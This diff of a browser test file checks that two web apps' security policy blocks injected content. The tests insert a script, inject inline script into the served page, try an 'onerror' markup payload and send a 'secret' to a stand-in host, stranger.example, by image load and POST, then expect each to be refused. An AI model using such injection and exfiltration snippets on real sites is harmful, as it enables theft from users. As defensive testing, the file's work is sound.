@@ -6,20 +6,74 @@ for (const app of ['child', 'viewer'] as const) {
     await page.goto(urls[app]);
     await page.getByRole('heading', { level: 1 }).waitFor();
     const ran = await page.evaluate(async () => {
-      const script = document.createElement('script');
-      script.textContent = 'window.strangerWasHere = true';
       const picture = document.createElement('img');
       picture.src = 'https://stranger.example/?what=secret';
-      document.body.append(script, picture);
+      const script = document.createElement('script');
+      script.append('window.strangerWasHere = true');
+      document.body.append(picture, script);
       document.body.setAttribute('style', 'display: none');
       await fetch('https://stranger.example/', { method: 'POST', body: 'secret' }).catch(() => undefined);
       return 'strangerWasHere' in window;
     });
     expect(ran).toBe(false);
     await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-    // The other journeys rely on this list to find what the apps themselves do wrong.
-    for (const what of [/inline script/, /inline style/, /Loading the image/, /Connecting to/])
+    // The other journeys use this list to detect the apps' own violations.
+    for (const what of [/TrustedScript/, /inline style/, /Loading the image/, /Connecting to/])
       await expect.poll(() => refusedByPolicy.some((message) => what.test(message))).toBe(true);
+    refusedByPolicy.length = 0;
+  });
+
+  test(`the ${app}'s page runs no script that somebody else wrote into it`, async ({
+    page,
+    refusedByPolicy,
+  }) => {
+    await page.route(urls[app], async (route) => {
+      const response = await route.fetch();
+      const body = (await response.text()).replace(
+        '</body>',
+        '<script>strangerWasHere = true</script></body>',
+      );
+      await route.fulfill({ response, body });
+    });
+    await page.goto(urls[app]);
+    await expect.poll(() => refusedByPolicy.some((message) => /inline script/.test(message))).toBe(true);
+    expect(await page.evaluate(() => 'strangerWasHere' in window)).toBe(false);
+    refusedByPolicy.length = 0;
+  });
+
+  test(`the ${app}'s page makes nothing that runs out of a text`, async ({ page, refusedByPolicy }) => {
+    await page.goto(urls[app]);
+    await page.getByRole('heading', { level: 1 }).waitFor();
+    const refused = await page.evaluate(() => {
+      const isRefused = (act: () => unknown) => {
+        try {
+          act();
+          return false;
+        } catch {
+          return true;
+        }
+      };
+      const div = document.createElement('div');
+      return {
+        markup: isRefused(() => (div.innerHTML = '<img src=x onerror="strangerWasHere = true">')),
+        page: isRefused(() => document.write('<p>somebody else</p>')),
+        script: isRefused(() => (document.createElement('script').textContent = 'strangerWasHere = true')),
+        address: isRefused(() => (document.createElement('script').src = '/assets/other.js')),
+        worker: isRefused(() => new Worker('/favicon.svg')),
+        policy: isRefused(() => Reflect.get(window, 'trustedTypes').createPolicy('stranger', {})),
+        drawing: isRefused(() => (div.innerHTML = '<svg viewBox="0 0 1 1"><path d="M0 0"/></svg>')),
+      };
+    });
+    expect(refused).toEqual({
+      markup: true,
+      page: true,
+      script: true,
+      address: true,
+      worker: true,
+      policy: true,
+      drawing: false,
+    });
+    expect(await page.evaluate(() => 'strangerWasHere' in window)).toBe(false);
     refusedByPolicy.length = 0;
   });
 
